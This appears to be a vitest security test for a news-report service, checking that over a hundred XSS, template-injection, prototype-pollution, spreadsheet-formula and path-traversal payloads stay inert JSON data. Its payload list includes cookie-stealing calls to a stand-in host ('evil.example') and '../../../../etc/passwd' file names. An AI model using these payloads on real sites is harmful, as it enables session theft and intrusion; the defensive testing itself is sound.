import { setTimeout as pause } from "node:timers/promises";
import { afterAll, beforeAll, expect, test } from "vitest";
import { type Sample, sampleServer } from "./samples.js";

/** What a hostile page might carry, put together from parts so that every pair of them is tried. */
const ACTIONS = ["alert(1)", "fetch('//evil.example/'+document.cookie)", "location='//evil.example'"];
const SHAPES: readonly ((action: string) => string)[] = [
  (action) => `<script>${action}</script>`,
  (action) => `<SCRIPT SRC=//evil.example/x.js>${action}</SCRIPT>`,
  (action) => `<img src=x onerror="${action}">`,
  (action) => `<svg onload="${action}"><path d="M0 0"/></svg>`,
  (action) => `<svg><script>${action}</script></svg>`,
  (action) => `<svg><animate onbegin="${action}" attributeName=x dur=1s>`,
  (action) => `<math><mtext></mtext><a xlink:href="javascript:${action}">x</a></math>`,
  (action) => `<a href="javascript:${action}">x</a>`,
  (action) => `<iframe srcdoc="<script>${action}</script>"></iframe>`,
  (action) => `<body onload="${action}">`,
  (action) => `<details open ontoggle="${action}">`,
  (action) => `<input autofocus onfocus="${action}">`,
  (action) => `<form action="javascript:${action}"><button>x</button></form>`,
  (action) => `<object data="data:text/html,<script>${action}</script>"></object>`,
  (action) => `<embed src="javascript:${action}">`,
  (action) => `<link rel=stylesheet href="//evil.example/x.css"><!-- ${action} -->`,
  (action) =>
    `<style>@import url("//evil.example/?${action}");*{background:url(javascript:${action})}</style>`,
  (action) => `<div style="background:url('javascript:${action}')">x</div>`,
  (action) => `<meta http-equiv=refresh content="0;url=javascript:${action}">`,
  (action) => `<base href="//evil.example/${action}">`,
  (action) => `"><script>${action}</script>`,
  (action) => `'-${action}-'`,
  (action) => `\${${action}}{{${action}}}<%= ${action} %>`,
  (action) => `]]><script>${action}</script>`,
  (action) => `</title></textarea></script><script>${action}</script>`,
  (action) => `\u202e<script>${action}</script>\u2028`,
  (action) => `<video><source onerror="${action}"></video>`,
  (action) => `<marquee onstart="${action}">x</marquee>`,
  (action) => `<template><img src=x onerror="${action}"></template>`,
  (action) => `<noscript><p title="</noscript><img src=x onerror=${action}>">`,
  (action) => `javascript:${action}//`,
  (action) => `data:text/html;base64,${Buffer.from(action).toString("base64")}`,
  (action) => `{"__proto__":{"x":"${action}"}}`,
  (action) => `=HYPERLINK("//evil.example/?${action}")`,
];
const PAYLOADS = SHAPES.flatMap((shape) => ACTIONS.map(shape));

let sample: Sample;
beforeAll(async () => {
  sample = await sampleServer(
    PAYLOADS.map((payload, index) => ({
      id: `p-${index} ${payload}`.slice(0, 300),
      title: `At least 3 people were killed ${payload}`,
      text: `At least ${index + 2} people were killed in Batken, ${payload} said.\n${payload}\nAnother 4 people were wounded, the Kyrgyz Health Ministry said.`,
      published: "2022-09-16",
      publisher: payload,
      url: payload,
      language: "en",
    })),
  );
});
afterAll(() => sample.close());

const get = (url: string) => sample.app.inject({ url });

test("a hundred payloads in every field of a report stay words, and every answer is data", async () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(100);
  const { items } = (await get("/api/reports?limit=500")).json();
  expect(items).toHaveLength(PAYLOADS.length);
  for (const { id, publisher, url } of items) {
    const response = await get(`/api/reports/${encodeURIComponent(id)}`);
    expect(response.headers["content-type"]).toBe("application/json; charset=utf-8");
    expect(response.headers["x-content-type-options"]).toBe("nosniff");
    const { report, claims } = response.json();
    expect([report.publisher, report.url]).toEqual([publisher, url]);
    expect(PAYLOADS).toContain(publisher);
    for (const claim of claims)
      expect((claim.inTitle ? report.title : report.text).slice(claim.start, claim.end)).toBe(claim.quote);
  }
});

test("no page of ours carries a word of a report", async () => {
  for (const url of ["/", "/api/reference", "/reports/p-1"]) {
    const { body } = await get(url);
    for (const payload of PAYLOADS) expect(body.includes(payload)).toBe(false);
  }
});

test("a payload asked for is answered as data", async () => {
  for (const payload of PAYLOADS.slice(0, 40)) {
    const word = encodeURIComponent(payload);
    for (const url of [
      `/api/explain/${word}`,
      `/api/reports?q=${word}`,
      `/${word}`,
      `/api/claims?source=${word}`,
    ]) {
      const { headers, statusCode } = await get(url);
      expect([url, statusCode < 500, String(headers["content-type"]).startsWith("application/json")]).toEqual(
        [url, true, true],
      );
    }
  }
});

test("payloads in the name of a file lead nowhere", async () => {
  const base64 = Buffer.from("Three people were killed in Batken, officials said.").toString("base64");
  for (const name of [...PAYLOADS.slice(0, 10), "../../../../etc/passwd", "a\\..\\b.txt", "x.txt\0.html"]) {
    const payload = { kind: "file", name, base64, published: "2022-09-16", language: "en" };
    const begun = await sample.app.inject({ method: "POST", url: "/api/readings", payload });
    expect(begun.statusCode).toBe(202);
    let reading = begun.json();
    for (; reading.state === "reading"; await pause(5))
      reading = (await get(`/api/readings/${reading.id}`)).json();
    expect([...reading.reports, ...reading.failures].length).toBeGreaterThan(0);
  }
});
